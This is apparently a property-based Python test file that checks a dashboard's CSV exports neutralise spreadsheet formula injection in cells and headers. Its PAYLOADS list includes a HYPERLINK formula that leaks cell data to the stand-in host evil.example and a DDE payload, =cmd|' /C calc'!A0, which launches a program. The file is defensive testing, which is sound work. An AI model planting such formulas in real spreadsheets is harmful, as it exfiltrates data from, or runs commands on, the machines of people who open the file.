"""CSV exports neutralise formula injection (dashboard/files/export.py): no text cell or header a
spreadsheet opens (Excel, LibreOffice, Google Sheets read the same CSV) may start with
= + - @, a tab or a carriage return, also after leading blanks or in full-width form, while
numbers and plain-number text stay as they are. Checked cell by cell, property-based, on
the bytes the dashboard's download buttons and `export`/`score` commands write."""
from __future__ import annotations

import io
import re

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from dashboard.cli import main
from dashboard.files.export import csv_bytes, export_table, spreadsheet_safe, write_table
from dashboard.files.importer import normalise_posts
from dashboard.files.visible import visible
from dashboard.scoring import Scorer
from dashboard.write.ingest import save_posts_as_run
from reliability import tally
from reliability.fuzzing import texts

STARTS = ["=", "+", "-", "@", "\t", "\r", " =", "\n=", "\u00a0+", "\uff1d", "\uff0b",
          "\uff0d", "\uff20", "\ufeff -"]
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "=1+1\n", "-3",
            "+4.5e3", "-.5", "12", "plain text", "", "'=already quoted"]
NUMBER = re.compile(r"\s*[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\s*")


def dangerous(cell: str) -> bool:
    """What a spreadsheet could evaluate: independent of export.py's own rule. A leading
    byte-order mark is dropped by readers when it opens the file (as the first header)."""
    if cell.startswith(("\t", "\r")):
        return True
    start = re.sub(r"^[\s\ufeff]+", "", cell)
    return start.startswith(tuple(s.strip() for s in STARTS if s.strip())) \
        and not NUMBER.fullmatch(start)


def formulaic():
    return st.one_of(texts(6), st.sampled_from(PAYLOADS),
                     st.tuples(st.sampled_from(STARTS), texts(4)).map("".join))


def cells_of(data: bytes) -> list[str]:
    """Every cell of a CSV, headers included, as a spreadsheet reads it (all text)."""
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, header=None)
    return frame.to_numpy().ravel().tolist()


def cell_pairs(before: pd.DataFrame, after: pd.DataFrame):
    return zip([*before.columns, *before.astype(object).to_numpy().ravel()],
               [*after.columns, *after.astype(object).to_numpy().ravel()])


@given(st.lists(formulaic(), min_size=1, max_size=6), st.lists(st.integers(), max_size=6),
       st.lists(formulaic().map(lambda h: h.encode("utf-8", "replace").decode()),
                min_size=4, max_size=4, unique=True))
def test_no_cell_or_header_can_become_a_formula(cells, numbers, headers):
    rows = max(len(cells), len(numbers))
    padded = cells + [""] * (rows - len(cells))
    valid = [c.encode("utf-8", "replace").decode() for c in padded]  # what pyarrow can hold
    frame = pd.DataFrame({"object": pd.Series(padded, dtype=object),
                          "str": pd.Series(valid, dtype="str"),
                          "category": pd.Categorical(valid),
                          "number": pd.Series(numbers + [0] * (rows - len(numbers)))})
    frame.columns = headers
    with tally.scenario("exports"):
        safe = spreadsheet_safe(frame)
        for before, after in cell_pairs(frame, safe):
            shown = visible(before)  # bidi controls become marks (test_visible_bidi.py)
            expected = "'" + shown if isinstance(shown, str) and dangerous(shown) else shown
            assert after == expected
        assert safe.iloc[:, 3].tolist() == frame.iloc[:, 3].tolist(), "numbers stay numbers"
        assert not [c for c in cells_of(csv_bytes(frame)) if dangerous(c)]
        tally.record("exports", payloads=frame.size + len(headers))


def test_a_first_header_opening_with_a_byte_order_mark():
    """Readers drop a mark that opens the file, so what follows it must be safe on its own."""
    frame = pd.DataFrame({"\ufeff ->": ["x"], "\ufeff=1+1": ["y"]})
    assert not [c for c in cells_of(csv_bytes(frame)) if dangerous(c)]


def test_known_payloads(tmp_path):
    frame = pd.DataFrame({"text": PAYLOADS})
    safe = spreadsheet_safe(frame)["text"].tolist()
    kept = {"-3", "+4.5e3", "-.5", "12", "plain text", "", "'=already quoted"}
    assert [p for p, s in zip(PAYLOADS, safe) if s == p] == [p for p in PAYLOADS if p in kept]
    out = tmp_path / "x.csv"
    write_table(frame, out, "csv")
    assert not [c for c in cells_of(out.read_bytes()) if dangerous(c)]


def test_score_command_neutralises_the_users_own_headers_and_cells(tmp_path):
    posts = tmp_path / "posts.csv"
    pd.DataFrame({"id": ["1"], "created_at": ["2026-03-01"], "text": ["=1+1 ChatGPT"],
                  "=HYPERLINK(\"x\")": ["@SUM(A1)"]}).to_csv(posts, index=False)
    out = tmp_path / "scored.csv"
    with tally.scenario("exports"):
        assert main(["score", str(posts), "-o", str(out), "--quiet"]) == 0
        assert not [c for c in cells_of(out.read_bytes()) if dangerous(c)]


def test_posts_export_of_hostile_posts(tmp_path, engine, tracker):
    raw = pd.DataFrame({"id": [str(i) for i in range(len(PAYLOADS))],
                        "created_at": "2026-03-01", "text": [f"{p} x" for p in PAYLOADS],
                        "subreddit": PAYLOADS, "url": PAYLOADS})
    save_posts_as_run(engine, normalise_posts(raw, "s", "f.csv"), "s", Scorer(tracker))
    out = tmp_path / "posts.csv"
    with tally.scenario("exports"):
        export_table(engine, "posts", out, "csv", tracker)
        cells = cells_of(out.read_bytes())
        assert not [c for c in cells if dangerous(c)]
        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\") x" in cells
